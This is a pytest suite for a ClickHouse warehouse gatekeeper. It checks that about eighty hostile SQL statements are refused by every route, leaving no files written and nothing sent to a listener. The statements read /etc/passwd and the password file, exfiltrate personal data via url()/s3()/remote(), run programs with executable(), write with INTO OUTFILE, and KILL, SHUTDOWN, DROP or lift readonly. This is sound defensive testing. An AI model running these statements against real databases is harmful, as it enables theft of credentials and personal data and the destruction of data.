"""The warehouse's door refuses everything that is not a read of the warehouse's own
tables, by the engine's own parse of the statement: table functions that reach files,
URLs, other servers or programs; writes, KILL, SYSTEM, SET and SETTINGS; output clauses;
more than one statement; personal tables however they are named. Each attack goes in
three ways (the embedded reader, the sink's door with clickhouse-connect's HTTP client,
`ravao sql FILE.sql`), is refused with a message that names what and why, leaves nothing
on disk, sends nothing to a listener, and leaves the engine taking writes. The door also
refuses wrong credentials, settings in the URL, and personal queries to accounts without
that right."""

from __future__ import annotations

import itertools
import os
import socket
import threading
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from conftest import run_cli
from pipeline.cli.warehouse import sql as sql_command
from pipeline.settings import Settings
from pipeline.sink.endpoint import Endpoint
from pipeline.sink.state import read_state
from pipeline.warehouse import Warehouse, WarehouseError, open_warehouse
from pipeline.warehouse.client import chdb_url
from pipeline.warehouse.connect import running_sink
from pipeline.warehouse.door import PERSONAL_QUERIES, Refused, read_settings
from pipeline.warehouse.migrations import migrate
from pipeline.warehouse.opened import open_url
from schemas import PersonalData, ValidScan

PERSON = "P" + "B" * 14
TIMEOUT_SECONDS = 2


class Listener:
    """A TCP port on 127.0.0.1 that records every connection: url(), s3(), remote() and
    the database table functions would all have to connect to it to send anything."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(65536) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.socket.close()


class Door:
    def __init__(self, settings: Settings, warehouse: Warehouse, listener: Listener, tmp: Path) -> None:
        self.settings, self.warehouse, self.listener, self.tmp = settings, warehouse, listener, tmp
        self.batches = itertools.count()

    def write_still_succeeds(self) -> None:
        """The sink's kind of write, after the attack: it lands."""
        before = self.warehouse.query("SELECT count() FROM scans").scalar()
        at = datetime.now(timezone.utc) - timedelta(hours=1)
        scan = ValidScan(event_id=uuid.uuid4(), source="station", person_id=PERSON, venue_id="V" + "C" * 14,
                         direction="in", scanned_at=at, area_id="25741", area_path=("74", "718", "25741"),
                         category="market", default_stay_minutes=60, max_stay_minutes=240)
        self.warehouse.insert_json("scans_incoming", scan.to_bytes(), token=f"door-test:{next(self.batches)}")
        assert self.warehouse.query("SELECT count() FROM scans").scalar() == before + 1


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("door")
    settings = Settings(data_dir=tmp / "data", clickhouse_url=None, sink_port=0)
    limits = read_settings(TIMEOUT_SECONDS, 1000, 1024 * 1024, 256 * 1024 ** 2)
    warehouse = open_url(chdb_url(settings.warehouse_dir), limits)
    migrate(warehouse, 30)
    warehouse.insert_json("personal_data", PersonalData(person_id=PERSON, full_name="Trần Thị Bình",
                                                        phone="0981234791", id_number="012345678901").to_bytes())
    endpoint = Endpoint(warehouse, settings.data_dir, 0)
    endpoint.accounts.add("analyst", "analyst-password", personal=False)
    endpoint.start()
    listener = Listener()
    try:
        yield Door(settings, warehouse, listener, tmp)
    finally:
        listener.close()
        endpoint.stop()
        warehouse.close()


# (what, the statement, what the refusal must say). {tmp}: a folder nothing may be written
# to; {url} and {port}: the listener; {data}: RAVAO_DATA_DIR, with the door's passwords in it.
ATTACKS = [
    ("file() reads /etc/passwd", "SELECT * FROM file('/etc/passwd', 'LineAsString')", "table function file()"),
    ("file() reads the door's passwords", "SELECT * FROM file('{data}/sink.json', 'JSONAsString')", "file()"),
    ("file() as a scalar function", "SELECT file('/etc/passwd')", "file()"),
    ("url() sends personal data", "SELECT * FROM url('{url}/leak?who=Bình', 'CSV', 'a String')", "url()"),
    ("INSERT INTO FUNCTION url() posts names",
     "INSERT INTO FUNCTION url('{url}/post', 'JSONEachRow', 'full_name String') SELECT full_name FROM personal_data",
     "INSERT statement"),
    ("a UNION sneaks url() into a subquery",
     "SELECT person_id FROM persons UNION ALL SELECT a FROM (SELECT a FROM url('{url}/u', 'CSV', 'a String'))",
     "url()"),
    ("a CTE hides file()", "WITH x AS (SELECT * FROM file('/etc/passwd', 'LineAsString')) SELECT * FROM x",
     "file()"),
    ("an IN subquery hides url()",
     "SELECT count() FROM scans WHERE person_id IN (SELECT a FROM url('{url}/in', 'CSV', 'a String'))", "url()"),
    ("remote()", "SELECT * FROM remote('127.0.0.1:{port}', default, scans)", "remote()"),
    ("remoteSecure()", "SELECT * FROM remoteSecure('127.0.0.1:{port}', default, scans)", "remoteSecure()"),
    ("cluster()", "SELECT * FROM cluster('default', default.scans)", "cluster()"),
    ("s3()", "SELECT * FROM s3('{url}/bucket/x.csv', 'CSV', 'a String')", "s3()"),
    ("hdfs()", "SELECT * FROM hdfs('hdfs://127.0.0.1:{port}/x', 'CSV', 'a String')", "hdfs()"),
    ("postgresql()", "SELECT * FROM postgresql('127.0.0.1:{port}', 'db', 't', 'u', 'p')", "postgresql()"),
    ("mysql()", "SELECT * FROM mysql('127.0.0.1:{port}', 'db', 't', 'u', 'p')", "mysql()"),
    ("executable() runs a program", "SELECT * FROM executable('touch {tmp}/pwned', 'TSV', 'a String')",
     "executable()"),
    ("input()", "SELECT * FROM input('a String')", "input()"),
    ("merge() reaches personal_data by pattern", "SELECT * FROM merge('^personal.data$')", "merge()"),
    ("merge() over the current database", "SELECT * FROM merge(currentDatabase(), 'person')", "merge()"),
    ("loop() over personal_data", "SELECT * FROM loop(default, personal_data) LIMIT 1", "loop()"),
    ("mergeTreeIndex() reads a table's parts", "SELECT * FROM mergeTreeIndex(default, personal_data)",
     "mergeTreeIndex()"),
    ("INSERT INTO FUNCTION file() writes a file",
     "INSERT INTO FUNCTION file('{tmp}/written.csv', 'CSV', 'a String') SELECT 'x'", "INSERT statement"),
    ("INTO OUTFILE writes a file", "SELECT * FROM scans INTO OUTFILE '{tmp}/outfile.csv'", "INTO OUTFILE clause"),
    ("INTO OUTFILE ... AND STDOUT", "SELECT 1 INTO OUTFILE '{tmp}/stdout.csv' AND STDOUT", "INTO OUTFILE clause"),
    ("INTO OUTFILE ... APPEND", "SELECT 1 INTO OUTFILE '{tmp}/append.csv' APPEND", "INTO OUTFILE clause"),
    ("SHOW TABLES INTO OUTFILE", "SHOW TABLES INTO OUTFILE '{tmp}/tables.csv'", "SHOW TABLES with clauses"),
    ("SHOW SETTINGS reads system.settings", "SHOW CHANGED SETTINGS LIKE '%'", "other than SHOW TABLES"),
    ("SHOW DATABASES", "show databases", "other than SHOW TABLES"),
    ("DESCRIBE INTO OUTFILE", "DESCRIBE TABLE scans INTO OUTFILE '{tmp}/describe.csv'", "INTO OUTFILE clause"),
    ("DESCRIBE of file()", "DESCRIBE file('/etc/passwd', 'LineAsString')", "file()"),
    ("FORMAT changes what the caller parses", "SELECT 1 FORMAT TSV", "FORMAT clause"),
    ("KILL cancels the sink's insert", "KILL QUERY WHERE query ILIKE 'INSERT%' SYNC", "KILL statement"),
    ("KILL MUTATION", "KILL MUTATION WHERE 1", "KILL"),
    ("SYSTEM", "SYSTEM STOP MERGES", "SYSTEM statement"),
    ("SYSTEM SHUTDOWN", "SYSTEM SHUTDOWN", "SYSTEM statement"),
    ("SET readonly = 0", "SET readonly = 0", "SET statement"),
    ("SETTINGS readonly = 0", "SELECT * FROM scans SETTINGS readonly = 0", "SETTINGS clause"),
    ("SETTINGS lifts the time limit in a subquery",
     "SELECT * FROM (SELECT count() FROM system.numbers SETTINGS max_execution_time = 0)", "SETTINGS clause"),
    ("two statements", "SELECT 1; KILL QUERY WHERE 1", "more than one statement"),
    ("two statements after a comment", "SELECT 1 /* ; */; SYSTEM SHUTDOWN", "more than one statement"),
    ("a backquoted personal table", "SELECT * FROM `personal_data`", "personal_data holds personal data"),
    ("a double-quoted personal table", 'SELECT * FROM "personal_data"', "personal data"),
    ("a qualified, quoted personal table", "SELECT phone FROM `default`.`personal_data`", "personal data"),
    ("a personal table spelled with escapes", "SELECT * FROM `\\x70ersonal_data`", "personal data"),
    ("a personal table in other case and spacing", "SELECT * FROM DEFAULT . Personal_Data", "personal data"),
    ("the audit log", "SELECT * FROM audit_log", "audit_log holds personal data"),
    ("people's health declarations", "SELECT symptoms, travel FROM declarations", "declarations holds personal data"),
    ("health answers joined to scans",
     "SELECT s.venue_id, d.symptoms FROM scans AS s INNER JOIN declarations AS d USING person_id", "personal data"),
    ("DESCRIBE of a subquery over file()", "DESCRIBE (SELECT * FROM file('/etc/passwd', 'LineAsString'))", "file()"),
    ("personal data in a scalar subquery", "SELECT (SELECT any(phone) FROM personal_data)", "personal data"),
    ("personal data in view()", "SELECT * FROM view(SELECT full_name FROM personal_data)", "personal data"),
    ("personal data in IN", "SELECT count() FROM persons WHERE person_id IN personal_data", "personal data"),
    ("personal data by a join", "SELECT p.phone FROM persons AS s INNER JOIN personal_data AS p USING person_id",
     "personal data"),
    ("another database's table", "SELECT query FROM system.processes", "system.processes"),
    ("information_schema", "SELECT * FROM information_schema.tables", "information_schema.tables"),
    ("odd case, comments and whitespace",
     "/* a harmless read */ sElEcT\t*\n\nFROM  fIlE (\n'/etc/passwd' ,\t'LineAsString' ) -- no", "fIlE()"),
    ("odd case KILL", "kIlL\n  QuErY/* */WHERE\t1", "KILL statement"),
    ("a line break in an identifier does not hide a node",
     "SELECT `a\n Function numbers` FROM file('/etc/passwd', 'LineAsString')", "file()"),
    ("dictGet()", "SELECT dictGet('leak', 'phone', toUInt64(1))", "dictGet()"),
    ("dictHas()", "SELECT dictHas('leak', toUInt64(1))", "dictHas()"),
    ("dictionary()", "SELECT * FROM dictionary('leak')", "dictionary()"),
    ("an AI function sends data out", "SELECT aiGenerate('Trần Thị Bình, 0981234791')", "AI provider"),
    ("an AI function in upper case", "SELECT AIEmbed(person_id) FROM persons", "AI provider"),
    ("a classifier loads a model", "SELECT naiveBayesClassifier('model', 'text')", "model"),
    ("CREATE DICTIONARY from a file",
     "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(FILE(path '/etc/passwd' format 'TSV')) "
     "LAYOUT(FLAT()) LIFETIME(0)", "CREATE statement"),
    ("joinGet()", "SELECT joinGet('personal_data', 'phone', 'x')", "joinGet()"),
    ("sleep()", "SELECT sleepEachRow(3) FROM numbers(100)", "sleepEachRow()"),
    ("DROP", "DROP TABLE scans", "DROP"),
    ("TRUNCATE", "TRUNCATE TABLE scans", "statement"),
    ("ALTER ... DELETE", "ALTER TABLE scans DELETE WHERE 1", "ALTER statement"),
    ("DELETE", "DELETE FROM scans WHERE 1", "DELETE statement"),
    ("OPTIMIZE", "OPTIMIZE TABLE scans FINAL", "OPTIMIZE statement"),
    ("CREATE", "CREATE TABLE leak ENGINE = File(CSV, '{tmp}/create.csv') AS SELECT 1", "CREATE statement"),
    ("ATTACH", "ATTACH TABLE leak (a String) ENGINE = File(CSV, '{tmp}/attach.csv')", "statement"),
    ("RENAME", "RENAME TABLE scans TO gone", "RENAME/EXCHANGE statement"),
    ("EXPLAIN runs schema inference", "EXPLAIN SELECT * FROM file('/etc/passwd', 'LineAsString')", "EXPLAIN"),
    ("USE", "USE system", "USE statement"),
    ("GRANT", "GRANT ALL ON *.* TO default", "GRANT"),
    ("not SQL", "please show me everything", "cannot parse"),
    ("nothing", "", "cannot parse"),
]
WRITTEN = ["pwned", "written.csv", "outfile.csv", "stdout.csv", "append.csv", "tables.csv", "describe.csv",
           "create.csv", "attach.csv"]


def _sql(door: Door, template: str) -> str:
    return template.format(tmp=door.tmp, url=f"http://127.0.0.1:{door.listener.port}", port=door.listener.port,
                           data=door.settings.data_dir)


def _through(door: Door, route: str, sql: str, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    if route == "embedded":
        door.warehouse.query(sql)
    elif route == "sink":
        client = running_sink(door.settings)
        assert client is not None
        client.query(sql)
    else:  # `ravao sql FILE.sql`, in this process, with the sink's endpoint running
        path = door.tmp / "attack.sql"
        path.write_text(sql, encoding="utf-8")
        monkeypatch.setenv("RAVAO_DATA_DIR", str(door.settings.data_dir))
        monkeypatch.setenv("RAVAO_SINK_PORT", "0")
        monkeypatch.delenv("RAVAO_CLICKHOUSE_URL", raising=False)
        sql_command(query=str(path), param=[], fmt="json")


@pytest.mark.parametrize("route", ["embedded", "sink", "cli"])
@pytest.mark.parametrize("what, template, said", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_an_attack_through_the_door_is_refused_and_harms_nothing(door: Door, route: str, what: str, template: str,
                                                                 said: str, monkeypatch, capsys) -> None:
    with pytest.raises(WarehouseError) as refused:
        _through(door, route, _sql(door, template), monkeypatch, capsys)
    assert said in str(refused.value), str(refused.value)
    assert str(refused.value).startswith("refused: ")
    assert not [name for name in WRITTEN if (door.tmp / name).exists()]
    assert door.listener.received == []
    assert door.warehouse.query("SELECT 1 AS ok").rows == [[1]]
    door.write_still_succeeds()


def test_a_personal_table_named_by_a_parameter_is_refused(door: Door) -> None:
    with pytest.raises(Refused, match="personal data"):
        door.warehouse.query("SELECT * FROM {t:Identifier}", {"t": "personal_data"})
    with pytest.raises(WarehouseError, match="personal data"):
        running_sink(door.settings).query("SELECT * FROM {t:Identifier}", {"t": "audit_log"})


def test_reads_of_the_warehouse_pass_and_what_runs_is_what_was_checked(door: Door) -> None:
    warehouse = door.warehouse
    assert warehouse.query("SELECT 1 AS one -- ; KILL QUERY WHERE 1\n").rows == [[1]]
    assert warehouse.query("/* a note */ WITH t AS (SELECT number FROM numbers(3)) SELECT sum(number) AS s FROM t "
                           "UNION ALL SELECT count() FROM scans WHERE person_id = {p:String}",
                           {"p": "nobody"}).rows == [[3], [0]]
    assert warehouse.query("SELECT count() > 0 FROM system.tables WHERE database = currentDatabase()").scalar() == 1
    assert ["scans"] in warehouse.query("SHOW TABLES").rows
    assert warehouse.query("SELECT format('{}-{}', 'a', 'b')").scalar() == "a-b"
    assert warehouse.query("SELECT count() FROM persons AS s LEFT JOIN venues AS v ON s.home_area_id = v.area_id "
                           "WHERE s.person_id IN (SELECT person_id FROM visits)").scalar() == 0


def test_limits_stop_a_read_and_the_next_read_gets_its_own_answer(door: Door) -> None:
    with pytest.raises(WarehouseError, match="TOO_MANY_ROWS_OR_BYTES|Limit for result"):
        door.warehouse.query("SELECT number FROM system.numbers")
    assert door.warehouse.query("SELECT 42 AS n").rows == [[42]]
    with pytest.raises(WarehouseError, match="TIMEOUT_EXCEEDED|Timeout exceeded"):
        door.warehouse.query("SELECT count() FROM system.numbers")
    assert door.warehouse.query("SELECT 43 AS n").rows == [[43]]
    with pytest.raises(WarehouseError, match="MEMORY_LIMIT_EXCEEDED|memory limit"):
        door.warehouse.query("SELECT length(groupArray(number)) FROM numbers(1000000000)")
    assert door.warehouse.query("SELECT 44 AS n").rows == [[44]]
    door.write_still_succeeds()


@pytest.mark.parametrize("route", ["embedded", "sink"])
def test_an_answer_over_the_result_limit_is_refused_however_the_engine_counts_it(door: Door, route: str) -> None:
    """The engine counts a constant column once, and a format's escapes not at all,
    against max_result_bytes: ``SELECT repeat('a', 1000000) AS a, a, a, ...`` once
    answered 20 MB past a 1 MiB limit (and with the default limits, gigabytes held in the
    sink's memory per request)."""
    reader = door.warehouse if route == "embedded" else running_sink(door.settings)
    for sql in ("SELECT repeat('a', 1000000) AS a, a, a", "SELECT repeat(char(1), 900000) AS escaped_sixfold",
                "SELECT repeat('a', 400000) AS a FROM numbers(3)"):
        with pytest.raises(WarehouseError, match="TOO_MANY_ROWS_OR_BYTES"):
            reader.query(sql)
        assert reader.query("SELECT 45 AS n").rows == [[45]]
    door.write_still_succeeds()


def test_personal_data_comes_only_through_its_named_query(door: Door) -> None:
    with pytest.raises(Refused, match="not a query that may read personal data"):
        door.warehouse.read_personal("person_visits", {"person": PERSON}, action="x", subject=PERSON, detail={})
    read = door.warehouse.read_personal("personal_data_of", {"persons": [PERSON]}, action="trace_with_names",
                                        subject=PERSON, detail={})
    assert read.dicts()[0]["phone"] == "0981234791"
    through = running_sink(door.settings)
    assert through.read_personal("personal_data_of", {"persons": [PERSON]}, action="trace_with_names",
                                 subject=PERSON, detail={}).dicts()[0]["phone"] == "0981234791"


def test_the_door_knows_a_personal_query_by_its_parse_and_serves_it_only_to_accounts_with_the_right(
        door: Door) -> None:
    from pipeline.warehouse.queries import load

    state = read_state(door.settings.data_dir)
    text = load("personal_data_of").sql
    lines = [line.split("--")[0] for line in text.splitlines()]
    respelled = "/* the same question */ " + " ".join(" ".join(lines).split()).replace("SELECT", "select", 1)
    import clickhouse_connect
    from clickhouse_connect.driver.exceptions import DatabaseError

    def plain(url: str):  # an analyst's own ClickHouse client: the door judges alone
        return clickhouse_connect.get_client(dsn=url, autogenerate_session_id=False, compress=False)

    for account in ("admin", "web", "alerts"):
        client = plain(state.url_for(account))
        try:
            read = client.query(respelled, parameters={"persons": [PERSON]})
            assert list(read.named_results())[0]["full_name"] == "Trần Thị Bình"
        finally:
            client.close()
    client = plain(f"http://analyst:analyst-password@127.0.0.1:{state.port}/default")
    try:
        assert client.query("SELECT count() FROM scans").result_rows[0][0] >= 0  # non-personal reads: yes
        with pytest.raises(DatabaseError, match="personal_data_of reads personal data, which analyst may not read"):
            client.query(respelled, parameters={"persons": [PERSON]})
        with pytest.raises(DatabaseError, match="holds personal data"):  # a personal table by any other query
            client.query("SELECT full_name FROM personal_data WHERE person_id IN {persons:Array(String)}",
                         parameters={"persons": [PERSON]})
    finally:
        client.close()
    door.write_still_succeeds()


def test_a_personal_query_under_another_name_is_refused_by_query_on_every_route(door: Door, monkeypatch,
                                                                               capsys) -> None:
    """`ravao sql copy.sql` with the text of personal_data_of once printed names, phones
    and ID numbers in full, with no audit row, whenever the sink ran: its door serves the
    named query to the admin account, and `Warehouse.query` passed it on. Personal reads
    go by `read_personal` only, which the authorization layer audits."""
    from pipeline.warehouse.queries import load

    path = door.tmp / "copy.sql"
    every = {"personal_data_of": ({"persons": [PERSON]}, [f"persons={PERSON}"]),
             "person_by_phone": ({"phone": "0981234791"}, ["phone=0981234791"]),
             "audit_trail": ({"person": "", "actor": ""}, ["person=", "actor="])}
    assert set(every) == PERSONAL_QUERIES  # a new personal query is attacked here too
    for name, (params, cli) in every.items():
        text = load(name).sql
        path.write_text("-- my own report\n" + text.replace("SELECT", "select", 1))
        for route in ("embedded", "sink"):
            reader = door.warehouse if route == "embedded" else running_sink(door.settings)
            with pytest.raises(Refused, match="personal"):
                reader.query(path.read_text(), params)
        monkeypatch.setenv("RAVAO_DATA_DIR", str(door.settings.data_dir))
        monkeypatch.delenv("RAVAO_CLICKHOUSE_URL", raising=False)
        with pytest.raises(WarehouseError, match="personal"):
            sql_command(query=str(path), param=cli, fmt="json")
        assert "0981234791" not in capsys.readouterr().out
    door.write_still_succeeds()


def test_wrong_or_missing_credentials_get_authentication_failed_and_never_a_read(door: Door) -> None:
    import urllib.error
    import urllib.request

    state = read_state(door.settings.data_dir)
    for url in (f"http://admin:guessed@127.0.0.1:{state.port}/default", f"http://127.0.0.1:{state.port}/default",
                f"http://nobody:{state.passwords['admin']}@127.0.0.1:{state.port}/default"):
        with pytest.raises(WarehouseError, match="AUTHENTICATION_FAILED|Authentication failed"):
            open_url(url, door_is_remote=True)
    for headers in ({}, {"X-ClickHouse-User": "web", "X-ClickHouse-Key": "guessed"}):
        request = urllib.request.Request(f"{state.url}/?query=SELECT%20count()%20FROM%20scans", headers=headers)
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code == 401 and refused.value.headers["X-ClickHouse-Exception-Code"] == "516"
        assert refused.value.read().startswith(b"Code: 516. DB::Exception: ")
    # The other ways ClickHouse takes credentials: headers, URL arguments.
    good = urllib.request.Request(f"{state.url}/?query=SELECT%201", headers={
        "X-ClickHouse-User": "web", "X-ClickHouse-Key": state.passwords["web"]})
    assert urllib.request.urlopen(good, timeout=10).read() == b"1\n"
    from urllib.parse import urlencode
    query = urlencode({"query": "SELECT 2 FORMAT CSV", "user": "alerts", "password": state.passwords["alerts"]})
    assert urllib.request.urlopen(f"{state.url}/?{query}", timeout=10).read() == b"2\n"
    door.write_still_succeeds()


@pytest.mark.parametrize("setting, value", [("readonly", "0"), ("readonly", "2"), ("max_execution_time", "0"),
                                            ("max_result_rows", "0"), ("max_memory_usage", "0")])
def test_a_setting_in_the_url_that_would_change_the_doors_is_refused(door: Door, setting: str, value: str) -> None:
    import clickhouse_connect
    from clickhouse_connect.driver.exceptions import DatabaseError

    state = read_state(door.settings.data_dir)
    client = clickhouse_connect.get_client(dsn=state.url_for("admin"), autogenerate_session_id=False, compress=False)
    try:
        client._backend.params[setting] = value  # as a client that does not ask system.settings sends it
        with pytest.raises(DatabaseError, match="READONLY|readonly mode"):
            client.query("SELECT count() FROM scans")
        client._backend.params["readonly"] = "1"  # the door's own value: ignored, as a readonly=1 server does
        del client._backend.params[setting]
        assert client.query("SELECT 41 + 1").result_rows == [(42,)]
    finally:
        client.close()
    door.write_still_succeeds()


def test_ravao_sql_runs_a_read_from_a_file_and_names_from_the_library(door: Door, monkeypatch, capsys) -> None:
    path = door.tmp / "read.sql"
    path.write_text("-- venues per area\nSELECT area_id, count() AS n FROM venues GROUP BY area_id\n")
    monkeypatch.setenv("RAVAO_DATA_DIR", str(door.settings.data_dir))
    monkeypatch.delenv("RAVAO_CLICKHOUSE_URL", raising=False)
    sql_command(query=str(path), param=[], fmt="json")
    sql_command(query="venue_occupancy_now", param=[f"venue={'V' + 'C' * 14}"], fmt="json")
    assert capsys.readouterr().out.count("[") >= 2
    with pytest.raises(WarehouseError, match="--with-names"):
        sql_command(query="personal_data_of", param=[f"persons={PERSON}"], fmt="json")


def test_a_writer_opened_beside_the_door_still_writes(door: Door) -> None:
    # The sink's own writes go by the writer session, which the door does not touch.
    with open_warehouse(door.settings) as writer:
        assert writer is door.warehouse
        door.write_still_succeeds()


def test_ravao_sql_with_a_hostile_file_exits_2_with_the_refusal(door: Door) -> None:
    env = {**os.environ, "RAVAO_DATA_DIR": str(door.settings.data_dir), "RAVAO_SINK_PORT": "0"}
    env.pop("RAVAO_CLICKHOUSE_URL", None)
    path = door.tmp / "hostile.sql"
    for attack in ("KILL QUERY WHERE query ILIKE 'INSERT%' SYNC",
                   f"SELECT 1 INTO OUTFILE '{door.tmp}/outfile.csv'",
                   "SELECT * FROM file('/etc/passwd', 'LineAsString')"):
        path.write_text(attack)
        result = run_cli("sql", str(path), env=env, check=False)
        assert result.returncode == 2 and "refused: " in result.stderr, result.stderr
        assert "root:" not in result.stdout + result.stderr
    assert not (door.tmp / "outfile.csv").exists()
    door.write_still_succeeds()
